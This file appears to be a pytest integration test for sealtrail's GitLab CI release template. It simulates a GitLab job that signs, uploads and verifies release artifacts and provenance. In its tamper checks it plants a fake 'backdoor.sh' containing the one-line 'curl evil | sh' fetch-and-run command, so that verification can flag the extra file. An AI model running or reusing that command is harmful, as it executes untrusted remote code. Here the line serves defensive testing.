"""The GitLab CI template (ci/gitlab/sealtrail-release.gitlab-ci.yml): its shape, its script's
sealtrail calls parsed by sealtrail's own parser, and its script run in a simulated GitLab job.

The simulated job: GitLab's predefined variables (CI_*, GITLAB_CI), the identity token in
SIGSTORE_ID_TOKEN as `id_tokens` puts it there, and a local HTTP endpoint standing in for
GitLab's generic package registry (PUT with JOB-TOKEN) that the upload loop writes to. The
token is a GitLab CI token from the local instance's built-in GitLab issuer (`sealtrail token
gitlab`), which plays the GitLab server: CI_SERVER_URL is its URL, and the CI_* variables carry
the token's values as GitLab's would. `release sign` signs with it and makes the provenance
(sealtrail's GitLab buildType); `release verify` checks the release against the pipeline's
identity (https://<server>/<project>//.gitlab-ci.yml@refs/tags/<tag>, the `//` included), and
`sealtrail verify --bundle multiple.intoto.jsonl` checks the provenance against each artifact.
"""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import jwt
import pytest
import yaml  # type: ignore[import-untyped]

from tests.integration.instance_server import BIN, REPO, InstanceServer, run

pytestmark = pytest.mark.integration

TEMPLATE = REPO / "ci" / "gitlab" / "sealtrail-release.gitlab-ci.yml"
JOB = ".sealtrail-release"
SEALTRAIL = str(BIN / "sealtrail")
TAG = "v1.2.3"
JOB_TOKEN = "glcbt-simulated-job-token"
SHA = "0123456789abcdef0123456789abcdef01234567"
PROJECT = "acme/app"
ARTIFACTS = ("app-1.2.3.tar.gz", "app-linux-amd64")

# A stand-in for a program: records its argv (JSON, one line per call) in $RECORD.
RECORDER = f"""#!{sys.executable}
import json, os, sys
with open(os.environ["RECORD"], "a") as out:
    out.write(json.dumps([os.path.basename(sys.argv[0]), *sys.argv[1:]]) + "\\n")
"""


def template_job() -> dict[str, Any]:
    document = yaml.safe_load(TEMPLATE.read_text())
    job: dict[str, Any] = document[JOB]
    return job


def script_of(job: dict[str, Any]) -> str:
    """The job's script as the runner runs it: each entry in turn, in one shell, stopping at
    the first failure (`set -e` for each line's status, as GitLab's shell executor does)."""
    return "set -eo pipefail\n" + "\n".join(job["script"]) + "\n"


def test_the_template_is_an_includable_hidden_job() -> None:
    document = yaml.safe_load(TEMPLATE.read_text())
    # Hidden (a leading dot): including the file adds no job until a project extends it.
    assert list(document) == [JOB]
    job = document[JOB]
    # SPEC: Sigstore's clients read SIGSTORE_ID_TOKEN, with audience "sigstore"
    # (../shared/reference/provenance-formats.md §3).
    assert job["id_tokens"] == {"SIGSTORE_ID_TOKEN": {"aud": "sigstore"}}
    assert job["rules"] == [{"if": "$CI_COMMIT_TAG"}]
    assert job["artifacts"]["paths"] == ["$SEALTRAIL_DIR/"]
    assert all(isinstance(line, str) for line in job["script"])


def recorded_calls(job: dict[str, Any], tmp_path: Path, **variables: str) -> list[list[str]]:
    """Run the script with `python`, the venv's python and sealtrail replaced by recorders:
    the commands it would run, with the template's variables (and ``variables``)."""
    tools, venv = tmp_path / "tools", tmp_path / "venv"
    (venv / "bin").mkdir(parents=True)
    tools.mkdir()
    for path in (tools / "python", venv / "bin" / "python", venv / "bin" / "sealtrail"):
        path.write_text(RECORDER)
        path.chmod(0o755)
    record = tmp_path / "calls.jsonl"
    record.touch()
    env = {"PATH": f"{tools}:/usr/bin:/bin", "RECORD": str(record),
           **{k: str(v) for k, v in job["variables"].items()},
           "SEALTRAIL_VENV": str(venv), "SEALTRAIL_UPLOAD": "false", **variables}
    done = subprocess.run(["bash", "--noprofile", "--norc", "-c", script_of(job)], cwd=tmp_path,
                          env=env, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in record.read_text().splitlines()]


def parse(argv: list[str]) -> Any:
    """`sealtrail ARGV` through the CLI's own parser; a flag it does not know fails the test."""
    from sealtrail.cli.main import _build_parser

    try:
        return _build_parser().parse_args(argv)
    except SystemExit as exc:
        raise AssertionError(f"sealtrail {' '.join(argv)} does not parse") from exc


def test_the_scripts_sealtrail_calls_parse(tmp_path: Path) -> None:
    calls = recorded_calls(template_job(), tmp_path)
    assert [call[0] for call in calls] == ["python", "python", "sealtrail"]
    assert calls[1][1:] == ["-m", "pip", "install", "--quiet", "--disable-pip-version-check",
                            "sealtrail==0.1.0"]
    args = parse(calls[2][1:])
    assert (args.command, args.release_command) == ("release", "sign")
    assert args.targets == ["dist"] and args.instance == "public-good"
    # A self-hosted instance's trust config instead, as the template's comment says.
    calls = recorded_calls(template_job(), tmp_path / "self-hosted",
                           SEALTRAIL_SIGN_FLAGS="--trust-config ci/trust_config.json")
    args = parse(calls[2][1:])
    assert args.trust_config == "ci/trust_config.json" and args.instance is None


def test_a_call_that_does_not_parse_is_caught(tmp_path: Path) -> None:
    """The check above can fail: a flag `release sign` does not have."""
    job = template_job()
    job["script"] = [line.replace("release sign", "release sign --no-such-flag")
                     for line in job["script"]]
    calls = recorded_calls(job, tmp_path)
    with pytest.raises(AssertionError, match="does not parse"):
        parse(calls[2][1:])


def gitlab_variables(server: str, claims: dict[str, Any], project_dir: Path) -> dict[str, str]:
    """GitLab's predefined variables for the job the token ``claims`` describe (GitLab docs,
    "Predefined CI/CD variables"), on the GitLab at ``server``."""
    project = claims["project_path"]
    return {
        "CI": "true", "GITLAB_CI": "true", "CI_SERVER_URL": server,
        "CI_PROJECT_PATH": project, "CI_PROJECT_ID": claims["project_id"],
        "CI_PROJECT_NAMESPACE": claims["namespace_path"], "CI_PROJECT_DIR": str(project_dir),
        "CI_PROJECT_VISIBILITY": claims["project_visibility"],
        "CI_COMMIT_SHA": claims["sha"], "CI_COMMIT_REF_NAME": claims["ref"],
        **({"CI_COMMIT_TAG": claims["ref"]} if claims["ref_type"] == "tag" else {}),
        "CI_PIPELINE_SOURCE": claims["pipeline_source"], "CI_PIPELINE_ID": claims["pipeline_id"],
        "CI_JOB_ID": claims["job_id"],
        "CI_JOB_URL": f"{server}/{project}/-/jobs/{claims['job_id']}",
        "CI_CONFIG_PATH": ".gitlab-ci.yml", "CI_RUNNER_ID": claims["runner_id"],
    }


class PackageRegistry:
    """GitLab's generic package registry, locally: PUT
    /api/v4/projects/:id/packages/generic/:name/:version/:file with JOB-TOKEN."""

    def __init__(self) -> None:
        self.uploads: dict[str, bytes] = {}
        self.tokens: set[str] = set()
        registry = self

        class Handler(BaseHTTPRequestHandler):
            def do_PUT(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
                registry.uploads[self.path] = body
                registry.tokens.add(self.headers.get("JOB-TOKEN", ""))
                data = b'{"message":"201 Created"}'
                self.send_response(201)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def api(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/api/v4"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def instance(tmp_path_factory: pytest.TempPathFactory) -> Iterator[InstanceServer]:
    server = InstanceServer(tmp_path_factory.mktemp("gitlab") / "sealtrail")
    server.init()
    server.start()
    yield server
    server.stop()


def test_the_template_signs_and_uploads_in_a_simulated_gitlab_job(
        instance: InstanceServer, tmp_path: Path) -> None:
    registry = PackageRegistry()
    try:
        project = tmp_path / "project"
        dist = project / "dist"
        dist.mkdir(parents=True)
        for name in ARTIFACTS:
            (dist / name).write_bytes(f"the contents of {name}\n".encode() * 50)
        job = template_job()
        tools = tmp_path / "tools"
        tools.mkdir()
        (tools / "python").symlink_to(sys.executable)  # the image's python
        # What `id_tokens: SIGSTORE_ID_TOKEN: aud: sigstore` gives the job, and the
        # predefined variables GitLab sets for the same pipeline and job.
        token = run(SEALTRAIL, "token", "gitlab", "--instance", str(instance.directory),
                    "--project", PROJECT, "--ref", f"refs/tags/{TAG}",
                    "--sha", SHA).stdout.strip()
        claims = jwt.decode(token, options={"verify_signature": False})
        server = instance.url + "/oidc/gitlab"
        env = {
            "PATH": f"{tools}:/usr/local/bin:/usr/bin:/bin", "HOME": str(tmp_path),
            **{k: str(v) for k, v in job["variables"].items()},
            # The pipeline's own choices (a self-hosted instance, this checkout as the
            # package), as a project's `variables:` would set them.
            "SEALTRAIL_SIGN_FLAGS": f"--trust-config {instance.trust_config}",
            "SEALTRAIL_REQUIREMENT": str(REPO), "SEALTRAIL_VENV": str(tmp_path / "venv"),
            **gitlab_variables(server, claims, project),
            "CI_API_V4_URL": registry.api, "CI_JOB_TOKEN": JOB_TOKEN,
            "SIGSTORE_ID_TOKEN": token,
        }
        for name, value in os.environ.items():
            if name.startswith("PIP_"):
                env[name] = value
        done = subprocess.run(["bash", "--noprofile", "--norc", "-c", script_of(job)],
                              cwd=project, env=env, capture_output=True, text=True,
                              timeout=600, check=False)
        assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-3000:]
        assert "Traceback" not in done.stderr

        outputs = sorted(p.name for p in dist.iterdir())
        assert {"SHA256SUMS", "SHA256SUMS.sigstore.json", "VERIFY.md",
                *(a + ".sigstore.json" for a in ARTIFACTS)} <= set(outputs), outputs
        assert "multiple.intoto.jsonl" in outputs  # provenance by default in GitLab CI
        prefix = f"/api/v4/projects/{claims['project_id']}/packages/generic/release/{TAG}/"
        assert sorted(registry.uploads) == sorted(prefix + name for name in outputs)
        for name in outputs:
            assert registry.uploads[prefix + name] == (dist / name).read_bytes()
        assert registry.tokens == {JOB_TOKEN}

        host = server.split("://", 1)[1]
        identity = f"https://{host}/{PROJECT}//.gitlab-ci.yml@refs/tags/{TAG}"
        verify = [SEALTRAIL, "release", "verify", str(dist), "--certificate-oidc-issuer",
                  server, "--trusted-root", str(instance.trusted_root), "--json"]
        ok = run(*verify, "--certificate-identity", identity, check=False)
        assert ok.returncode == 0, ok.stdout + ok.stderr
        rows = {row["name"]: row for row in json.loads(ok.stdout)["results"]}
        assert rows["multiple.intoto.jsonl"]["ok"]
        # The same files, another pipeline's identity (a branch, not the tag): refused.
        other = run(*verify[:-1], "--certificate-identity",
                    identity.replace(f"refs/tags/{TAG}", "refs/heads/main"), check=False)
        assert other.returncode == 1, other.stdout + other.stderr

        # The provenance, against each artifact, with the pipeline's identity.
        for name in ARTIFACTS:
            done = run(SEALTRAIL, "verify", str(dist / name), "--bundle",
                       str(dist / "multiple.intoto.jsonl"), "--certificate-identity", identity,
                       "--certificate-oidc-issuer", server, "--trusted-root",
                       str(instance.trusted_root), check=False)
            assert done.returncode == 0, done.stdout + done.stderr
        bundle = json.loads((dist / "multiple.intoto.jsonl").read_text().splitlines()[0])
        statement = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
        predicate = statement["predicate"]
        assert predicate["buildDefinition"]["buildType"] \
            == "https://sealtrail.dev/buildtypes/gitlab-ci/v1"
        assert predicate["buildDefinition"]["resolvedDependencies"] == [
            {"uri": f"git+{server}/{PROJECT}@refs/tags/{TAG}", "digest": {"gitCommit": SHA}}]
        assert predicate["buildDefinition"]["externalParameters"]["ci_config"] == identity
        assert predicate["runDetails"]["builder"]["id"] == f"{server}/{PROJECT}/-/runners/1"
        assert sorted(s["name"] for s in statement["subject"]) == sorted(ARTIFACTS)
        # VERIFY.md's commands, as a user runs them in the downloaded directory, pass.
        text = (dist / "VERIFY.md").read_text()
        assert identity in text and server in text
        lines = [line for block in re.findall(r"```sh\n(.*?)```", text, re.S)
                 for line in block.splitlines()]
        ran = []
        for line in lines:
            if line.startswith(("sealtrail ", "sha256sum ")):
                argv = line.replace("sealtrail ", SEALTRAIL + " ", 1)
                done = subprocess.run(["sh", "-c", argv], cwd=dist, capture_output=True,
                                      text=True, timeout=120, env={
                                          **os.environ, "TRUSTED_ROOT": str(instance.trusted_root)})
                assert done.returncode == 0, (line, done.stdout, done.stderr)
                ran.append(line.split()[1])
        # release verify, and the provenance at SLSA Build L2 (verify-artifact).
        assert ran.count("release") == 1 and ran.count("verify-artifact") == 1, ran
        wrong = run(SEALTRAIL, "verify", str(dist / "SHA256SUMS"), "--bundle",
                    str(dist / "multiple.intoto.jsonl"), "--certificate-identity", identity,
                    "--certificate-oidc-issuer", server, "--trusted-root",
                    str(instance.trusted_root), check=False)
        assert wrong.returncode == 1, wrong.stdout + wrong.stderr  # not a subject

        # What a user downloads may differ from what the pipeline signed: each change is named.
        for change, name, code in (("modify", ARTIFACTS[0], "ARTIFACT_MODIFIED"),
                                   ("remove", ARTIFACTS[-1], "ARTIFACT_MISSING"),
                                   ("add", "backdoor.sh", "ARTIFACT_EXTRA")):
            changed = tmp_path / f"downloaded-{change}"
            shutil.copytree(dist, changed)
            if change == "modify":
                with open(changed / name, "ab") as handle:
                    handle.write(b"!")
            elif change == "remove":
                (changed / name).unlink()
            else:
                (changed / name).write_text("curl evil | sh\n")
            done = run(*[str(changed) if part == str(dist) else part for part in verify],
                       "--certificate-identity", identity, check=False)
            assert done.returncode == 1, (change, done.stdout + done.stderr)
            failed = {row["name"]: row["code"]
                      for row in json.loads(done.stdout)["results"] if not row["ok"]}
            assert failed.get(name) == code, (change, failed)
    finally:
        registry.close()
